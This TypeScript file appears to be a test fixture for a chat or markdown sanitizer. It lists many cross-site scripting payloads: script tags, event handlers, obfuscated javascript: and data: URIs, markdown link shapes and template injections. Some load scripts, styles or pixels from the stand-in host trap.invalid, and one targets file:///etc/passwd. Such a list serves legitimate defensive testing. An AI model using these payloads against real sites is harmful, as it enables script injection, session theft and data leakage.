// Texts that have run scripts, or fetched something, in somebody's chat. `xss()` and the host trap.invalid would show it.

const scripts = [
  '<script>xss()</script>', '<script src=//trap.invalid/a.js></script>', '<ScRiPt>xss()</sCrIpT>', '<script\x20type="text/javascript">xss();</script>',
  '<script>xss()', '</script><script>xss()</script>', '<<script>xss()//<</script>', '<script/xss src=data:,xss()>', '<scr<script>ipt>xss()</scr</script>ipt>',
  '"><script>xss()</script>', "'><script>xss()</script>", '--><script>xss()</script>', ']]><script>xss()</script>', '</title><script>xss()</script>',
  '</textarea><script>xss()</script>', '</style><script>xss()</script>', '</template><script>xss()</script>', '<noscript><p title="</noscript><img src=x onerror=xss()>">',
];
const handlers = [
  '<img src=x onerror=xss()>', '<img src=x onerror="xss()">', "<img src=x onerror='xss()'>", '<img src=x:x onerror=xss()//', '<img/src=x/onerror=xss()>', '<img src onerror=xss()>',
  '<img """><script>xss()</script>">', '<svg onload=xss()>', '<svg/onload=xss()>', '<svg><script>xss()</script></svg>', '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"/></svg>', '<svg><foreignObject><body onload=xss()></foreignObject></svg>',
  '<body onload=xss()>', '<body onpageshow=xss()>', '<input autofocus onfocus=xss()>', '<select autofocus onfocus=xss()>', '<textarea autofocus onfocus=xss()>', '<keygen autofocus onfocus=xss()>',
  '<video src=x onerror=xss()>', '<video><source onerror=xss()></video>', '<audio src=x onerror=xss()>', '<details open ontoggle=xss()>', '<marquee onstart=xss()>', '<object data="javascript:xss()">',
  '<object data=//trap.invalid/o>', '<embed src="javascript:xss()">', '<embed src=//trap.invalid/e>', '<iframe src="javascript:xss()">', '<iframe srcdoc="<script>parent.xss()</script>">', '<iframe src=//trap.invalid/f>',
  '<iframe onload=xss()>', '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">', '<math href="javascript:xss()">x</math>', '<form action="javascript:xss()"><button>x</button></form>',
  '<button formaction="javascript:xss()">x</button>', '<isindex type=image src=1 onerror=xss()>', '<table background="//trap.invalid/t">', '<div style="background:url(//trap.invalid/s)">', '<style>@import "//trap.invalid/i.css";</style>',
  '<style>*{background:url(//trap.invalid/b)}</style>', '<link rel=stylesheet href=//trap.invalid/l.css>', '<link rel=prefetch href=//trap.invalid/p>', '<meta http-equiv=refresh content="0;url=javascript:xss()">', '<base href=//trap.invalid/>',
  '<template><script>xss()</script></template>', '<template shadowrootmode=open><script>xss()</script></template>', '<x contenteditable onblur=xss()>x</x>', '<a href="javascript:xss()" autofocus onfocus=xss()>x</a>',
  '<noembed><img src=x onerror=xss()></noembed>', '<xmp><img src=x onerror=xss()></xmp>', '<plaintext onmouseover=xss()>', '<dialog open onclose=xss()>', '<p popover onbeforetoggle=xss()>', '<img srcset="//trap.invalid/1 1x">', '<img src=//trap.invalid/i.png>', '<picture><source srcset=//trap.invalid/2></picture>',
];
const targets = [
  'javascript:xss()', 'JaVaScRiPt:xss()', 'javascript&colon;xss()', 'java\tscript:xss()', 'java\nscript:xss()', 'javascript\t:xss()', ' javascript:xss()', '\x01javascript:xss()', '&#106;avascript:xss()', '&#x6A;avascript:xss()',
  'javascript:/**/xss()', 'javascript://%0axss()', 'javascript:%78ss()', 'jav&#x09;ascript:xss()', 'vbscript:xss()', 'livescript:xss()', 'data:text/html,<script>xss()</script>', 'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=xss()>', 'blob:https://trap.invalid/x', 'file:///etc/passwd', 'about:blank', 'view-source:https://trap.invalid', 'intent://trap.invalid#Intent;end', 'ftp://trap.invalid/', 'ws://trap.invalid/', '//trap.invalid/x', '\\\\trap.invalid\\x', '/\\trap.invalid',
  'https://user:pw@trap.invalid/', 'https://lumen.example@trap.invalid/', 'http:javascript:xss()', 'https:/\t/trap.invalid', 'mailto:a@b.example?body="><script>xss()</script>', 'feed:javascript:xss()', 'jar:https://trap.invalid!/x', 'x-javascript:xss()', 'article:../../x', 'article:<img src=x onerror=xss()>',
];
const shapes = (target: string) => [
  `[click](${target})`, `![image](${target})`, `<${target}>`, `[a]: ${target}\n\n[a]`, `[**b**](${target} "onmouseover=xss()")`, `<a href="${target}">x</a>`, target,
];
const others = [
  '![](https://trap.invalid/pixel.png)', '[![x](https://trap.invalid/a.png)](https://lumen.example)', '`<img src=x onerror=xss()>`', '```\n<img src=x onerror=xss()>\n```', '```html" onload="xss()\nx\n```', '# <img src=x onerror=xss()>',
  '- <img src=x onerror=xss()>', '1. <svg onload=xss()>', '**<img src=x onerror=xss()>**', '[<img src=x onerror=xss()>](https://lumen.example)', '[x](https://lumen.example/"onmouseover="xss())', '[x](https://lumen.example/" onclick="xss())',
  "[x](https://lumen.example/'onclick='xss())", '{{constructor.constructor("xss()")()}}', '${xss()}', '<%= xss() %>', '&lt;script&gt;xss()&lt;/script&gt;', '\u003cscript\u003exss()\u003c/script\u003e', '＜script＞xss()＜/script＞', '\u202e<script>xss()</script>',
  '__proto__', 'constructor', '%3Cscript%3Exss()%3C/script%3E', '\0<script>xss()</script>', '<!--<img src="--><img src=x onerror=xss()>">', '<![CDATA[<script>xss()</script>]]>', '<?xml-stylesheet href="javascript:xss()"?>', '<!ENTITY x SYSTEM "https://trap.invalid/">',
];

export const payloads: string[] = [...scripts, ...handlers, ...targets.flatMap(shapes), ...others];
